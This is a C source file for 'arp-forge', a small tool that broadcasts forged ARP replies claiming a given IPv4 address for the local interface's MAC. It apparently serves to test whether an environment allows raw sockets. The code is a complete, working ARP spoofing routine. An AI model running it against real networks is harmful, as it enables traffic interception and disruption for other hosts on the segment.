/* Forges ARP replies: "IP is at my MAC", broadcast on IFACE, ten times over two seconds.
 * Usage: arp-forge IFACE IP. Exit: 0 sent; 2 no raw socket (no NET_RAW); 3 a send failed.
 * A test tool: it is what a pushed branch with raw sockets could run. */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: arp-forge IFACE IP\n");
        return 1;
    }
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
    if (s < 0) {
        perror("socket");
        return 2;
    }
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strncpy(ifr.ifr_name, argv[1], IFNAMSIZ - 1);
    if (ioctl(s, SIOCGIFINDEX, &ifr) < 0) {
        perror("SIOCGIFINDEX");
        return 1;
    }
    int index = ifr.ifr_ifindex;
    if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) {
        perror("SIOCGIFHWADDR");
        return 1;
    }
    unsigned char mac[6];
    memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
    unsigned char frame[42];
    memset(frame, 0xff, 6);
    memcpy(frame + 6, mac, 6);
    frame[12] = 0x08;
    frame[13] = 0x06;
    unsigned char *arp = frame + 14;
    unsigned char head[8] = {0, 1, 8, 0, 6, 4, 0, 2};
    memcpy(arp, head, 8);
    memcpy(arp + 8, mac, 6);
    if (inet_pton(AF_INET, argv[2], arp + 14) != 1) {
        fprintf(stderr, "not an IPv4 address: %s\n", argv[2]);
        return 1;
    }
    memset(arp + 18, 0xff, 6);
    memcpy(arp + 24, arp + 14, 4);
    struct sockaddr_ll to;
    memset(&to, 0, sizeof to);
    to.sll_family = AF_PACKET;
    to.sll_ifindex = index;
    to.sll_halen = 6;
    memset(to.sll_addr, 0xff, 6);
    for (int i = 0; i < 10; i++) {
        if (sendto(s, frame, sizeof frame, 0, (struct sockaddr *) &to, sizeof to) < 0) {
            perror("sendto");
            return 3;
        }
        usleep(200000);
    }
    printf("sent\n");
    return 0;
}
